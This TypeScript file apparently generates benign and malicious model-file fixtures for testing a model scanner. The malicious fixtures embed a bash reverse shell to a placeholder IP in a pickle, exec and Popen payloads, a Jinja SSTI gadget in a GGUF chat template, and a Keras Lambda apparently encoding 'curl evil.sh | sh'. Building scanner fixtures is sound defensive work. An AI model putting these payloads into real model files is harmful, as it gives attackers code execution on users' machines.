import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync, deflateSync } from 'node:zlib';
import { buildZip } from '../formats/zip/testing.js';
import { buildSafetensors } from '../formats/safetensors/writer.js';
import { buildGguf } from '../formats/gguf/writer.js';
import { callPickle, picklePy, py, torchStateDictPickle } from '../formats/pickle/samples.js';
import { joblibPickle } from '../formats/pickle/joblib-writer.js';

/** One generated sample file and the verdict a correct scanner reaches on it. */
export interface Sample {
  path: string;
  expect: 'pass' | 'fail';
  what: string;
}

const CHATML =
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}{% endfor %}" +
  "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}";
const SSTI = "{{ cycler.__init__.__globals__.os.popen('id').read() }}" + CHATML;

function floats(n: number): Buffer {
  const b = Buffer.alloc(n * 4);
  for (let i = 0; i < n; i++) b.writeFloatLE(Math.sin(i), i * 4);
  return b;
}

function torchZip(root: string, dataPkl: Uint8Array): Buffer {
  return buildZip([
    { name: `${root}/data.pkl`, data: dataPkl },
    { name: `${root}/byteorder`, data: 'little' },
    { name: `${root}/data/0`, data: floats(12) },
    { name: `${root}/data/1`, data: floats(15) },
    { name: `${root}/version`, data: '3\n' },
  ]);
}

function npy(shape: number[], data: Buffer): Buffer {
  let header = `{'descr': '<f4', 'fortran_order': False, 'shape': (${shape.join(', ')}${shape.length === 1 ? ',' : ''}), }`;
  const total = 10 + header.length + 1;
  header += ' '.repeat((64 - (total % 64)) % 64) + '\n';
  const pre = Buffer.alloc(10);
  Buffer.from('\x93NUMPY', 'latin1').copy(pre);
  pre[6] = 1;
  pre.writeUInt16LE(header.length, 8);
  return Buffer.concat([pre, Buffer.from(header, 'latin1'), data]);
}

/** A tiny llama-architecture GGUF whose tokenizer carries `template`. */
function llamaGguf(template: string): Buffer {
  return buildGguf(
    [
      ['general.architecture', { type: 'string', value: 'llama' }],
      ['tokenizer.chat_template', { type: 'string', value: template }],
    ],
    [{ name: 'token_embd.weight', dims: [4, 8], type: 0, offset: 0, bytes: 128 }],
  );
}

function kerasConfig(lambda: boolean): string {
  const layers: unknown[] = [
    { module: 'keras.layers', class_name: 'InputLayer', config: { batch_shape: [null, 4], name: 'input' } },
    { module: 'keras.layers', class_name: 'Dense', config: { units: 2, activation: 'relu', name: 'dense' } },
  ];
  if (lambda)
    layers.push({
      module: 'keras.layers',
      class_name: 'Lambda',
      config: {
        name: 'exfil',
        function: {
          class_name: '__lambda__',
          config: {
            code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMKAAAAdABkAYMBAQB8AFMAKQJOeg9jdXJsIGV2aWwuc2ggfCBzaKkB2gRleGVjqQHaAXipAHIEAAAA',
            defaults: null,
            closure: null,
          },
        },
      },
    });
  return JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', layers } });
}

/** The files of the sample set, relative path -> bytes and expectation. */
function sampleFiles(): {
  rel: string;
  bytes: Uint8Array | string;
  expect: Sample['expect'];
  what: string;
}[] {
  return [
    {
      rel: 'benign/bert-tiny/pytorch_model.bin',
      bytes: torchZip('pytorch_model', torchStateDictPickle({ tensors: 2 })),
      expect: 'pass',
      what: 'PyTorch zip checkpoint (state_dict of rebuilt tensors)',
    },
    {
      rel: 'benign/bert-tiny/model.safetensors',
      bytes: buildSafetensors(
        [
          { name: 'layers.0.weight', dtype: 'F32', shape: [4, 3] },
          { name: 'layers.1.weight', dtype: 'F32', shape: [5, 3] },
        ],
        { format: 'pt' },
      ),
      expect: 'pass',
      what: 'safetensors weights',
    },
    {
      rel: 'benign/bert-tiny/tokenizer_config.json',
      bytes: JSON.stringify({ model_max_length: 512, chat_template: CHATML }, null, 2),
      expect: 'pass',
      what: 'tokenizer config with a ChatML template',
    },
    {
      rel: 'benign/bert-tiny/config.json',
      bytes: JSON.stringify({ architectures: ['BertModel'], hidden_size: 128, num_attention_heads: 2 }),
      expect: 'pass',
      what: 'model config',
    },
    {
      rel: 'benign/sklearn/classifier.joblib',
      bytes: gzipSync(
        joblibPickle([
          { shape: [3, 4], dtype: 'f8' },
          { shape: [3], dtype: 'i8' },
        ]),
      ),
      expect: 'pass',
      what: 'gzip-compressed joblib dump with raw array bytes',
    },
    {
      rel: 'benign/numpy/embeddings.npy',
      bytes: npy([4, 3], floats(12)),
      expect: 'pass',
      what: 'NumPy float array',
    },
    {
      rel: 'benign/llama/tiny-chat.gguf',
      bytes: llamaGguf(CHATML),
      expect: 'pass',
      what: 'GGUF with a ChatML chat template',
    },
    {
      rel: 'benign/keras/dense.keras',
      bytes: buildZip([
        { name: 'config.json', data: kerasConfig(false) },
        { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' },
      ]),
      expect: 'pass',
      what: 'Keras v3 archive, Dense layers only',
    },
    {
      rel: 'malicious/pickle/reverse-shell.pkl',
      bytes: callPickle('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']),
      expect: 'fail',
      what: 'os.system reverse shell in a plain pickle',
    },
    {
      rel: 'malicious/torch/trojan.pt',
      bytes: torchZip(
        'trojan',
        torchStateDictPickle({
          tensors: 2,
          extra: ['_hook', py.call('builtins', 'exec', ["import os; os.system('id')"])],
        }),
      ),
      expect: 'fail',
      what: 'real-looking torch checkpoint with builtins.exec hidden among tensors',
    },
    {
      rel: 'malicious/pickle/stacked-streams.pkl',
      bytes: Buffer.concat([
        picklePy(py.dict({ epoch: 3 })),
        callPickle('subprocess', 'Popen', [['sh', '-c', 'id']]),
      ]),
      expect: 'fail',
      what: 'benign first stream, subprocess.Popen in the second',
    },
    {
      rel: 'malicious/pickle/nested-loads.pkl',
      bytes: callPickle('pickle', 'loads', [callPickle('posix', 'system', ['id'])]),
      expect: 'fail',
      what: 'pickle.loads of an embedded malicious pickle',
    },
    {
      rel: 'malicious/joblib/pipeline.joblib',
      bytes: deflateSync(
        joblibPickle([{ shape: [2, 2], dtype: 'f8' }], {
          trailer: py.call('runpy', '_run_code', ['import os', py.dict({})]),
        }),
      ),
      expect: 'fail',
      what: 'zlib joblib dump whose trailer calls runpy._run_code',
    },
    {
      rel: 'malicious/gguf/chat-template-ssti.gguf',
      bytes: llamaGguf(SSTI),
      expect: 'fail',
      what: 'GGUF chat template with a Jinja SSTI gadget (CVE-2024-34359 class)',
    },
    {
      rel: 'malicious/keras/lambda.keras',
      bytes: buildZip([
        { name: 'config.json', data: kerasConfig(true) },
        { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' },
      ]),
      expect: 'fail',
      what: 'Keras archive with a Lambda layer (marshalled bytecode)',
    },
    {
      rel: 'malicious/archives/weights.7z',
      bytes: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(56, 0x11)]),
      expect: 'fail',
      what: '7z archive: cannot be inspected, so it is never passed silently',
    },
  ];
}

/** Writes the demo's sample set of benign and malicious model files under `dir`. */
export function writeSampleSet(dir: string): Sample[] {
  return sampleFiles().map(({ rel, bytes, expect, what }) => {
    const path = join(dir, rel);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, bytes);
    return { path, expect, what };
  });
}
